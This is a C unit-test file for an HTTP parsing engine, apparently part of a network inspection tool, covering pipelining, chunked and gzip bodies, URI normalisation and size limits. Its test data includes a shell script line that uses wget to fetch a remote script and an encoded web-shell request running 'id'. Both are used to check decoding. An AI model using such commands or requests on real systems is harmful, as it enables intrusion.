/* summary: unit tests for app/app_http: transactions, pipelining, chunked, gzip, URI normalisation, bounds. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <zlib.h>

#include "app/app_http.h"

#define MAXTX 64

struct rec {
	int events[MAXTX * 4];
	int nev;
	char uri[MAXTX][256], uri_raw[MAXTX][256], host[MAXTX][64], method[MAXTX][16];
	char header[MAXTX][512], names[MAXTX][256], cookie[MAXTX][64];
	char req_body[MAXTX][256], res_body[MAXTX][256];
	int status[MAXTX];
	uint64_t res_len[MAXTX];
	uint8_t body_seen[2][MAXTX * 1024];
	size_t body_seen_len[2];
	int done, unfinished;
};

static void
cp(char *dst, size_t cap, struct app_str s)
{
	size_t n = s.len < cap - 1 ? s.len : cap - 1;

	memcpy(dst, s.p, n);
	dst[n] = '\0';
}

static void
on_event(void *user, int ev, const struct http_txinfo *tx)
{
	struct rec *r = user;
	size_t i = tx->tx_id;

	r->events[r->nev++] = ev;
	if (i >= MAXTX)
		return;
	cp(r->uri[i], sizeof(r->uri[i]), tx->uri_norm);
	cp(r->uri_raw[i], sizeof(r->uri_raw[i]), tx->uri_raw);
	cp(r->host[i], sizeof(r->host[i]), tx->host);
	cp(r->method[i], sizeof(r->method[i]), tx->method);
	cp(r->header[i], sizeof(r->header[i]), tx->header);
	cp(r->names[i], sizeof(r->names[i]), tx->header_names);
	cp(r->cookie[i], sizeof(r->cookie[i]), tx->cookie);
	cp(r->req_body[i], sizeof(r->req_body[i]), tx->request_body);
	cp(r->res_body[i], sizeof(r->res_body[i]), tx->response_body);
	r->status[i] = tx->status;
	r->res_len[i] = tx->response_body_len;
	if (ev == HTTP_EV_RESPONSE_DONE)
		r->done++;
	if (ev == HTTP_EV_UNFINISHED)
		r->unfinished++;
}

static void
on_body(void *user, const struct http_txinfo *tx, int dir, const uint8_t *d, size_t n)
{
	struct rec *r = user;

	(void)tx;
	if (r->body_seen_len[dir] + n <= sizeof(r->body_seen[dir])) {
		memcpy(r->body_seen[dir] + r->body_seen_len[dir], d, n);
		r->body_seen_len[dir] += n;
	}
}

static struct http_engine *
engine(struct http_config *cfg)
{
	struct http_config def;
	struct error err;
	struct http_engine *he;

	if (cfg == NULL) {
		http_config_default(&def);
		cfg = &def;
	}
	he = http_engine_new(cfg, on_event, on_body, &err);
	assert_non_null(he);
	return he;
}

static void
feed(struct http_conn *c, int dir, const char *s)
{
	http_conn_data(c, dir, (const uint8_t *)s, strlen(s), 1000000000ull);
}

static void
test_get_and_response(void **state)
{
	struct http_engine *he = engine(NULL);
	struct rec *r = calloc(1, sizeof(*r));
	struct http_conn *c = http_conn_new(he, r, 0);

	(void)state;
	feed(c, 0, "GET /index.html?q=1 HTTP/1.1\r\nHost: WWW.Example.COM\r\n"
	    "User-Agent: curl/7.88\r\nCookie: sess=abc\r\nAccept: */*\r\n\r\n");
	assert_int_equal(r->events[0], HTTP_EV_REQUEST_HEADERS);
	assert_string_equal(r->method[0], "GET");
	assert_string_equal(r->uri[0], "/index.html?q=1");
	assert_string_equal(r->host[0], "www.example.com");
	assert_string_equal(r->cookie[0], "sess=abc");
	/* http.header: no Cookie, one CRLF per header */
	assert_string_equal(r->header[0], "Host: WWW.Example.COM\r\nUser-Agent: curl/7.88\r\n"
	    "Accept: */*\r\n");
	assert_string_equal(r->names[0], "\r\nHost\r\nUser-Agent\r\nCookie\r\nAccept\r\n\r\n");
	feed(c, 1, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhel");
	assert_int_equal(r->done, 0);
	feed(c, 1, "lo");
	assert_int_equal(r->done, 1);
	assert_int_equal(r->status[0], 200);
	assert_string_equal(r->res_body[0], "hello");
	assert_int_equal(r->res_len[0], 5);
	http_conn_close(c, 0);
	assert_int_equal(r->unfinished, 0);
	http_engine_free(he);
	free(r);
}

static void
test_pipelining_and_chunked(void **state)
{
	struct http_engine *he = engine(NULL);
	struct rec *r = calloc(1, sizeof(*r));
	struct http_conn *c = http_conn_new(he, r, 0);

	(void)state;
	feed(c, 0, "GET /a HTTP/1.1\r\nHost: h\r\n\r\n"
	    "POST /b HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
	    "4\r\nuser\r\n6\r\n=admin\r\n0\r\n\r\n"
	    "GET /c HTTP/1.1\r\nHost: h\r\n\r\n");
	assert_string_equal(r->uri[0], "/a");
	assert_string_equal(r->uri[1], "/b");
	assert_string_equal(r->req_body[1], "user=admin");
	assert_string_equal(r->uri[2], "/c");
	feed(c, 1, "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nA"
	    "HTTP/1.1 404 Not Found\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nBB\r\n0\r\n\r\n");
	assert_int_equal(r->done, 2);
	assert_int_equal(r->status[1], 404);
	assert_string_equal(r->res_body[1], "BB");
	http_conn_close(c, 0);
	assert_int_equal(r->unfinished, 1);	/* /c had no response */
	http_engine_free(he);
	free(r);
}

static void
test_gzip_body(void **state)
{
	struct http_engine *he = engine(NULL);
	struct rec *r = calloc(1, sizeof(*r));
	struct http_conn *c = http_conn_new(he, r, 0);
	const char *plain = "#!/bin/sh\nwget http://198.51.100.9/x.sh\n";
	uint8_t gz[256];
	z_stream z;
	char hdr[256];

	(void)state;
	memset(&z, 0, sizeof(z));
	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (Bytef *)plain;
	z.avail_in = (uInt)strlen(plain);
	z.next_out = gz;
	z.avail_out = sizeof(gz);
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	deflateEnd(&z);
	feed(c, 0, "GET /x.sh HTTP/1.1\r\nHost: h\r\n\r\n");
	snprintf(hdr, sizeof(hdr), "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n"
	    "Content-Length: %lu\r\n\r\n", (unsigned long)z.total_out);
	feed(c, 1, hdr);
	http_conn_data(c, 1, gz, z.total_out, 0);
	assert_int_equal(r->done, 1);
	assert_string_equal(r->res_body[0], plain);
	assert_int_equal(r->body_seen_len[1], strlen(plain));
	assert_memory_equal(r->body_seen[1], plain, strlen(plain));
	http_conn_close(c, 0);
	http_engine_free(he);
	free(r);
}

static void
test_uri_normalisation(void **state)
{
	struct http_engine *he = engine(NULL);
	struct rec *r = calloc(1, sizeof(*r));
	struct http_conn *c = http_conn_new(he, r, 0);

	(void)state;
	feed(c, 0, "GET /%61dmin/./x/../shell%2ephp?cmd=%69d HTTP/1.1\r\nHost: h\r\n\r\n");
	assert_string_equal(r->uri_raw[0], "/%61dmin/./x/../shell%2ephp?cmd=%69d");
	assert_string_equal(r->uri[0], "/admin/shell.php?cmd=id");
	http_conn_close(c, 0);
	http_engine_free(he);
	free(r);
}

static void
test_bounds(void **state)
{
	struct http_config cfg;
	struct http_engine *he;
	struct rec *r = calloc(1, sizeof(*r));
	struct http_conn *c;
	struct http_stats st;
	char *big;

	(void)state;
	http_config_default(&cfg);
	cfg.max_tx = 4;
	cfg.body_limit = 8;
	he = engine(&cfg);
	/* max_tx: the fifth pipelined request without a response stops it */
	c = http_conn_new(he, r, 0);
	for (int i = 0; i < 6; i++)
		feed(c, 0, "GET /p HTTP/1.1\r\nHost: h\r\n\r\n");
	http_engine_stats(he, &st);
	assert_int_equal(st.tx_limit, 1);
	assert_int_equal(st.transactions, 4);
	http_conn_close(c, 0);
	assert_int_equal(r->unfinished, 4);
	/* body_limit: 8 bytes kept of 20, all 20 passed on (files) */
	memset(r, 0, sizeof(*r));
	c = http_conn_new(he, r, 0);
	feed(c, 0, "POST /u HTTP/1.1\r\nHost: h\r\nContent-Length: 20\r\n\r\n"
	    "0123456789abcdefghij");
	assert_string_equal(r->req_body[0], "01234567");
	assert_int_equal(r->body_seen_len[0], 20);
	http_conn_close(c, 0);
	/* max_header: 70 KiB of headers stop the connection */
	memset(r, 0, sizeof(*r));
	c = http_conn_new(he, r, 0);
	feed(c, 0, "GET / HTTP/1.1\r\n");
	big = malloc(1100);
	memset(big, 'a', 1098);
	big[0] = 'X';
	big[1] = ':';
	big[1096] = '\r';
	big[1097] = '\n';
	big[1098] = '\0';
	for (int i = 0; i < 70; i++)
		feed(c, 0, big);
	http_engine_stats(he, &st);
	assert_int_equal(st.header_limit, 1);
	assert_int_equal(http_conn_data(c, 0, (const uint8_t *)"x", 1, 0), -1);
	http_conn_close(c, 0);
	free(big);
	http_engine_stats(he, &st);
	assert_int_equal(st.body_mem, 0);	/* everything given back */
	http_engine_free(he);
	free(r);
}

static void
test_plausible(void **state)
{
	(void)state;
	assert_int_equal(http_plausible(0, (const uint8_t *)"GET / HTTP/1.0", 14), 1);
	assert_int_equal(http_plausible(0, (const uint8_t *)"PO", 2), -1);
	assert_int_equal(http_plausible(0, (const uint8_t *)"SSH-2.0-x", 9), 0);
	assert_int_equal(http_plausible(1, (const uint8_t *)"HTTP/1.1 200", 12), 1);
	assert_int_equal(http_plausible(1, (const uint8_t *)"220 ftp", 7), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_get_and_response),
		cmocka_unit_test(test_pipelining_and_chunked),
		cmocka_unit_test(test_gzip_body),
		cmocka_unit_test(test_uri_normalisation),
		cmocka_unit_test(test_bounds),
		cmocka_unit_test(test_plausible),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
